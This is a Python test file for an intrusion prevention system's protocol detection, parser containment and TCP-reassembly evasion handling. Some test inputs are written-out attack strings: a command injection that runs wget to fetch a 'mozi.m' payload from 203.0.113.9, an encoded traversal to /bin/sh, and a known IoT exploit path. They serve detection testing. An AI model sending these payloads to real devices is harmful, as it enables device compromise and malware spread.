"""AppLayer: protocol detection by content and port, dispatch, containment,
and evasions end to end through the TCP reassembler."""
from __future__ import annotations

import struct

import pytest
from hypothesis import given, settings, strategies as st

from tests.applayer.applayer_helpers import FakeFlow, handshake, tcp_packet

from ips.applayer import AppLayer, detect_tcp, detect_udp
from ips.config import Config
from ips.packet import PROTO_UDP, Packet
from ips.stream import TcpReassembler


def run(flow, pieces, config=None):
    applayer = AppLayer(config or Config())
    txs = []
    for to_server, data in pieces:
        txs += applayer.on_data(flow, Packet(b""), data, to_server)
    return applayer, txs


@pytest.mark.parametrize("port", [80, 8080, 37215, 52869, 7547])
def test_http_detected_by_content_on_any_port(port):
    flow = FakeFlow(server_port=port)
    _, txs = run(flow, [(True, b"PO"), (True, b"ST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n")])
    assert flow.app_proto == "http"
    assert txs[0].buffers["http.uri"] == b"/ctrlt/DeviceUpgrade_1"


@pytest.mark.parametrize("data, to_server, port, expected", [
    (b"\x16\x03\x01\x02\x00\x01", True, 8443, "tls"),
    (b"\x10\x1a\x00\x04MQTT\x04\x02", True, 4000, "mqtt"),
    (b"\x10\x1a\x00\x06MQIsdp\x03", True, 1883, "mqtt"),
    (b"\xff\xfd\x18\xff\xfd\x20", False, 2323, "telnet"),
    (b"\r\nlogin: ", False, 23, "telnet"),
    (b"\x00\x01\x00\x00\x00\x06\x11\x03\x00\x6b\x00\x03", True, 502, "modbus"),
    (struct.pack(">H", 29) + bytes.fromhex("1234010000010000000000000378797a00000100 01"), True, 53, "dns"),
    (b"HTTP/1.1 200 OK\r\n", False, 8000, "http"),
    (b"SSH-2.0-OpenSSH\r\n", True, 22, "ssh"),
    (b"SSH-2.0-dropbear_2019.78\r\n", False, 2222, "ssh"),
    # named, not parsed (DETECTION_ONLY): rules on their raw bytes apply
    (b"220 (vsFTPd 3.0.3)\r\n", False, 21, "ftp"),
    (b"220 NAS FTP server ready\r\n", False, 2121, "ftp"),
    (b"220 mail.example ESMTP Postfix\r\n", False, 2500, "smtp"),
    (b"220 ready\r\n", False, 25, "smtp"),
    (b"220 ready\r\n", False, 4000, "unknown"),          # the client's command decides
    (b"220 rea", False, 21, "unknown"),
    (b"EHLO client.example\r\n", True, 4000, "smtp"),
    (b"USER anonymous\r\n", True, 21, "ftp"),
    (b"USER alice\r\n", True, 110, "failed"),            # POP3 and IRC send USER too
    (b"\x00\x00\x00\x85\xffSMBr\x00", True, 445, "smb"),
    (b"\x00\x00\x00\x85\xfeSMB@\x00", False, 445, "smb"),
    (b"\x00\x00\x00", True, 445, "unknown"),
    # what servers (and libhtp) take for a request: empty lines first, a
    # lower-case method, a tab after it
    (b"\r\n\r\nPOST /cgi-bin/x HTTP/1.1\r\n", True, 80, "http"),
    (b"post /cgi-bin/x HTTP/1.1\r\n", True, 80, "http"),
    (b"GET\t/x\tHTTP/1.1\r\n", True, 8080, "http"),
    (b" \tGET /x HTTP/1.1\r\n", True, 80, "http"),         # blanks before the method
    (b"\r\n\r\n", True, 80, "unknown"),
    (b"\r\nSSH-2.0", True, 80, "failed"),
    (b"\x00\x01\x02\x03\x04\x05\x06\x07\x08", True, 9999, "failed"),
])
def test_tcp_detection(data, to_server, port, expected):
    assert detect_tcp(data, to_server, 40000, port) == expected


def test_ftp_commands_count_after_a_220_greeting_on_any_port():
    assert detect_tcp(b"USER anonymous\r\n", True, 40000, 2121, peer=b"220 hello\r\n") == "ftp"
    assert detect_tcp(b"USER alice\r\n", True, 40000, 2121, peer=b"+OK POP3\r\n") == "failed"


def test_a_detection_only_protocol_names_the_flow_and_stops():
    flow = FakeFlow(server_port=25)
    _, txs = run(flow, [(False, b"220 mail ESMTP\r\n"), (True, b"EHLO me\r\n")])
    assert flow.app_proto == "smtp" and txs == [] and flow.app.get("done")


def test_detection_waits_for_enough_bytes():
    assert detect_tcp(b"G", True, 40000, 80) == "unknown"
    assert detect_tcp(b"\x16", True, 40000, 443) == "unknown"


@pytest.mark.parametrize("client_port, server_port, data, expected", [
    (40000, 53, b"", "dns"), (5353, 5353, b"", "mdns"), (68, 67, b"", "dhcp"),
    (40000, 1900, b"", "ssdp"), (40000, 9000, b"NOTIFY * HTTP/1.1\r\n", "ssdp"),
    (40000, 9000, b"random", None),
])
def test_udp_detection(client_port, server_port, data, expected):
    assert detect_udp(data, client_port, server_port) == expected


def test_server_banner_first_is_replayed_to_parser():
    flow = FakeFlow(server_port=23)
    _, txs = run(flow, [(False, b"\xff\xfb\x01\r\nlogin: "), (True, b"root\r\n")])
    assert flow.app_proto == "telnet"
    assert txs[0].buffers["telnet.login"] == [b"root"] and txs[0].record is None


def test_unknown_protocol_gives_up_and_stays_bounded():
    flow = FakeFlow(server_port=9999)
    applayer, txs = run(flow, [(True, b"\x00garbage" * 100), (False, b"\x01more" * 1000)])
    assert txs == [] and flow.app_proto is None and flow.app["done"]
    assert applayer.inspection_done(flow)


def test_udp_flow_goes_to_dns_parser():
    flow = FakeFlow(proto=PROTO_UDP, server_port=53)
    query = bytes.fromhex("abcd01000001000000000000") + b"\x06router\x04home\x00\x00\x01\x00\x01"
    _, [tx] = run(flow, [(True, query)])
    assert flow.app_proto == "dns" and tx.buffers["dns.query"] == [b"router.home"]


def test_parser_exception_is_contained(monkeypatch):
    from ips.applayer import http

    def explode(self, data, to_server, gap=False):
        raise RuntimeError("bug")
    monkeypatch.setattr(http.HttpParser, "feed", explode)
    flow = FakeFlow()
    packet = Packet(b"")
    applayer = AppLayer(Config())
    assert applayer.on_data(flow, packet, b"GET / HTTP/1.1\r\n\r\n", True) == []
    assert packet.anomalies == ["http.parser_error"]
    assert applayer.on_data(flow, packet, b"more", True) == []


def test_flow_end_flushes_unanswered_request():
    flow = FakeFlow()
    applayer, _ = run(flow, [(True, b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n")])
    [tx] = applayer.on_flow_end(flow)
    assert tx.complete and tx.record["url"] == "/x"


# -- evasions through stream + applayer --------------------------------------------

def through_stream(segments, inline=False, to_server=True):
    """segments: (offset, bytes) sent client->server after a handshake."""
    config = Config()
    config.stream_inline = inline
    reassembler, applayer, flow = TcpReassembler(config), AppLayer(config), FakeFlow(server_port=8080)
    handshake(reassembler, flow, client_isn=100, server_isn=900)
    txs, packets = [], []
    for offset, data in segments:
        packet = tcp_packet(seq=101 + offset, payload=data)
        chunk = reassembler.on_packet(flow, packet)
        packets.append(packet)
        if chunk is not None and (chunk.data or chunk.gap):
            txs += applayer.on_data(flow, packet, chunk.data, True, chunk.gap)
    return flow, txs, packets


REQUEST = b"GET /shell?cd+/tmp;wget+http://203.0.113.9/mozi.m HTTP/1.1\r\nHost: x\r\n\r\n"


@pytest.mark.parametrize("pieces", [2, 3, 7, len(REQUEST)])
def test_uri_split_into_n_segments_out_of_order(pieces):
    size = -(-len(REQUEST) // pieces)
    segments = [(i, REQUEST[i:i + size]) for i in range(0, len(REQUEST), size)]
    segments = segments[1::2] + segments[0::2]          # odd ones first
    flow, txs, _ = through_stream(segments)
    assert flow.app_proto == "http"
    assert txs[-1].buffers["http.uri"] == b"/shell?cd+/tmp;wget+http://203.0.113.9/mozi.m"


@pytest.mark.parametrize("inline", [False, True])
def test_overlapping_conflicting_segments_detection_sees_first_data(inline):
    # The attacker sends a harmless URI first, then "retransmits" the same
    # sequence range with the exploit: a receiver with last-data-wins policy
    # would see the exploit. We inspect the first copy and, inline, forward
    # exactly that copy.
    first = b"GET /index.html HTTP/1.1\r\n\r\n"
    second = b"GET /evil.cgi/ HTTP/1.1\r\n\r\n"
    flow, txs, packets = through_stream([(0, first[:10]), (0, second[:10]), (10, first[10:])], inline)
    assert txs[-1].buffers["http.uri"] == b"/index.html"
    assert "stream.reassembly_overlap_different_data" in packets[1].anomalies
    assert packets[1].payload == (first[:10] if inline else second[:10])


def test_encoded_traversal_split_across_segments_is_normalised():
    request = b"GET /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1\r\n\r\n"
    segments = [(i, request[i:i + 4]) for i in range(0, len(request), 4)]
    _, txs, _ = through_stream(list(reversed(segments)))
    assert txs[-1].buffers["http.uri"] == b"/bin/sh"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.booleans(), st.binary(max_size=120)), max_size=12),
       st.sampled_from([23, 53, 80, 443, 502, 1883, 9999]), st.booleans())
def test_random_data_never_raises(pieces, port, udp):
    flow = FakeFlow(proto=PROTO_UDP if udp else 6, server_port=port)
    applayer = AppLayer(Config())
    for to_server, data in pieces:
        packet = Packet(b"")
        applayer.on_data(flow, packet, data, to_server)
        assert not packet.anomalies or not any(a.endswith("parser_error") for a in packet.anomalies)
    applayer.on_flow_end(flow)
    pending = (flow.app or {}).get("pending")
    if pending:
        assert all(len(buffer) <= 4096 for buffer in pending.values())


def test_tls_flow_is_done_after_handshake():
    from tests.applayer.test_tls import client_hello_record
    flow = FakeFlow(server_port=443)
    applayer, _ = run(flow, [(True, client_hello_record())])
    assert flow.app_proto == "tls" and not applayer.inspection_done(flow)
    run_more = [(False, b"\x14\x03\x03\x00\x01\x01"), (True, b"\x17\x03\x03\x00\x01x")]
    for to_server, data in run_more:
        applayer.on_data(flow, Packet(b""), data, to_server)
    assert applayer.inspection_done(flow)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.tuples(st.booleans(), st.binary(max_size=120)), max_size=12),
       st.sampled_from([23, 53, 80, 443, 502, 1883]))
def test_record_is_set_only_on_complete_transactions(pieces, port):
    """The worker logs tx.record: it must stay None until the tx is complete."""
    flow = FakeFlow(server_port=port)
    applayer = AppLayer(Config())
    if port == 23:
        applayer.on_data(flow, Packet(b""), b"\xff\xfb\x01login: ", False)
    for to_server, data in pieces:
        for tx in applayer.on_data(flow, Packet(b""), data, to_server):
            if not tx.complete:
                assert tx.record is None
    for tx in applayer.on_flow_end(flow):
        assert tx.complete and tx.record is not None


# -- on_stream: what the worker calls for TCP ---------------------------------------

def conversation(config, steps, flow=None):
    """steps: (to_server, offset, data, ack_offset or None); runs stream +
    on_stream as the worker does and returns the txs seen per step."""
    from ips.packet import TH_ACK
    reassembler, applayer = TcpReassembler(config), AppLayer(config)
    flow = flow or FakeFlow()
    handshake(reassembler, flow, client_isn=100, server_isn=900)
    seen = []
    for to_server, offset, data, ack in steps:
        own, peer = (101, 901) if to_server else (901, 101)
        packet = tcp_packet(seq=own + offset, payload=data, flags=TH_ACK,
                            ack=peer + (ack or 0), to_server=to_server)
        chunk = reassembler.on_packet(flow, packet)
        seen.append(applayer.on_stream(flow, packet, chunk))
    return seen, applayer, reassembler, flow


GET = b"GET /blah/ HTTP/1.0\r\nHost: example.com\r\n\r\n"
REPLY = b"HTTP/1.0 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: 100\r\n\r\n" + b"x" * 40


def test_ids_mode_inspects_request_on_the_next_client_packet_with_response_state():
    # bug-78-http-uri: request ACKed by the server's reply, inspected on the
    # client's ACK, by when the response headers are parsed too.
    seen, *_ = conversation(Config(), [
        (True, 0, GET, 0),                      # request: not parsed yet
        (False, 0, REPLY, len(GET)),            # server ACKs it: request parsed, waits
        (True, len(GET), b"", len(REPLY)),      # client ACK: inspect request tx now
    ])
    assert seen[0] == [] and seen[1] == []
    [tx] = seen[2]
    assert tx.to_server and tx.buffers["http.uri"] == b"/blah/"
    assert "http.stat_code" not in tx.buffers        # request-side view
    assert tx.record is None
    assert tx.partial_record()["status"] == 404 and tx.partial_record()["length"] == 40


def test_request_named_http_by_the_reply_is_still_inspected_as_a_request():
    # An unknown method: only the server's status line names the flow HTTP.
    # The request tx must reach request-side rules on the client's next packet.
    odd = b"FOO /cgi-bin/x HTTP/1.0\r\nHost: cam\r\n\r\n"
    config = Config()
    config.stream_inline = True
    seen, *_ = conversation(config, [
        (True, 0, odd, 0),
        (False, 0, b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n", len(odd)),
        (True, len(odd), b"", 44),
    ])
    [tx] = seen[2]
    assert tx.to_server and tx.buffers["http.method"] == b"FOO"
    assert tx.buffers["http.uri"] == b"/cgi-bin/x"


def test_inline_mode_inspects_request_on_its_own_packet():
    config = Config()
    config.stream_inline = True
    seen, *_ = conversation(config, [(True, 0, GET, 0)])
    assert [tx.buffers["http.uri"] for tx in seen[0]] == [b"/blah/"]


def test_unacknowledged_request_is_inspected_at_flow_end():
    seen, applayer, reassembler, flow = conversation(Config(), [(True, 0, GET, 0)])
    assert seen[0] == []
    touched = applayer.on_flow_end(flow, reassembler.flush(flow))
    assert [tx.record["url"] for tx in touched] == ["/blah/"]
    [tx] = applayer.pending_txs(flow, True)
    assert tx.to_server and tx.buffers["http.uri"] == b"/blah/"
    assert applayer.pending_txs(flow, True) == []


def test_protocol_is_named_before_the_parsers_get_the_bytes():
    flow = FakeFlow(server_port=8080)
    conversation(Config(), [(True, 0, b"GET / HTTP/1.1\r\n", 0)], flow)
    assert flow.app_proto == "http" and not (flow.app or {}).get("parser")


def test_midstream_response_first_reverses_roles_for_the_parser():
    # alert-testmyids-midstream: the first packet seen comes from the server.
    config = Config()
    config.stream_midstream = True
    reassembler, applayer = TcpReassembler(config), AppLayer(config)
    flow = FakeFlow(client_port=80, server_port=54186)
    flow.midstream = True
    response = b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nuid"
    packet = tcp_packet(seq=5000, payload=response, ack=7000)
    chunk = reassembler.on_packet(flow, packet)
    applayer.on_stream(flow, packet, chunk)
    ack = tcp_packet(seq=7000, ack=5000 + len(response), to_server=False)
    applayer.on_stream(flow, ack, reassembler.on_packet(flow, ack))
    assert flow.app_proto == "http" and applayer.roles_reversed(flow)
    records = [tx.record for tx in applayer.on_flow_end(flow, reassembler.flush(flow)) if tx.record]
    records += [tx.record for tx in applayer.pending_txs(flow, True) + applayer.pending_txs(flow, False)
                if tx.record]
    assert records and records[0]["status"] == 200
